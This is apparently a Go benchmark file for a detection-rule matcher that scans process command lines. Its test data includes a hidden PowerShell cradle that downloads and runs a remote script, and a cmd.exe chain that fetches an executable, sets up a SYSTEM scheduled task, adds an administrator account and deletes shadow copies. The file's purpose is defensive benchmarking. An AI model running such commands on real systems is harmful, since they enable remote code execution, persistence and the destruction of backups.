package rules

import (
	"fmt"
	"strings"
	"testing"
)

// benchLine is a 300-character command line like those of the benchmark
// stream: a PowerShell download cradle that none of the sentinel patterns
// match, so every phrase is looked for and none stops the search early.
const benchLine = `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "$c = New-Object System.Net.WebClient; $c.Headers.Add('User-Agent','Mozilla/5.0'); $d = $c.DownloadString('http://203.0.113.7:8080/stage2.ps1'); Invoke-Expression $d; Start-Sleep -s 30"`

var sinkHits []int

func benchmarkMatch(b *testing.B, s *Set, line, parent string) {
	m := s.NewMatcher()
	cmd, par := []byte(line), []byte(parent)
	b.SetBytes(int64(len(cmd)))
	b.ReportAllocs()
	for b.Loop() {
		sinkHits = m.Match(cmd, par)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

func BenchmarkMatch(b *testing.B) {
	s := sentinel(b)
	b.Run(fmt.Sprintf("sentinel/miss/%dB", len(benchLine)), func(b *testing.B) {
		benchmarkMatch(b, s, benchLine, `C:\Windows\explorer.exe`)
	})
	hit := `cmd.exe /c "certutil -urlcache -split -f http://127.0.0.1:8080/x.exe %TEMP%\x.exe && schtasks /create /tn Updater /tr %TEMP%\x.exe /sc onlogon /ru SYSTEM && net user support P@ssw0rd! /add && net localgroup administrators support /add && vssadmin delete shadows /all /quiet && reg add HKLM\Software\x /v y /d z /f"`
	b.Run(fmt.Sprintf("sentinel/hits/%dB", len(hit)), func(b *testing.B) {
		benchmarkMatch(b, s, hit, winword)
	})
	big := bigSet(b, 2000)
	b.Run(fmt.Sprintf("2000rules/miss/%dB", len(benchLine)), func(b *testing.B) {
		benchmarkMatch(b, big, benchLine, `C:\Windows\explorer.exe`)
	})
}

func BenchmarkNormalize(b *testing.B) {
	in := []byte(benchLine)
	var out []byte
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		out = Normalize(out[:0], in)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}

// bigSet makes a pack of n rules with two-piece phrases over made-up tool
// names, to show that matching cost follows the line, not the pack.
func bigSet(b *testing.B, n int) *Set {
	var src strings.Builder
	src.WriteString("[pack]\ndescription = \"synthetic\"\n")
	for i := range n {
		fmt.Fprintf(&src, "[[rule]]\nname = \"r%d\"\ndescription = \"d\"\nany = [\"tool%d ... /opt%d\", \"util%d -x\"]\ntechniques = [\"T1059\"]\nrisk = 1\n", i, i, i%50, i)
	}
	return compileString(b, "big", src.String())
}
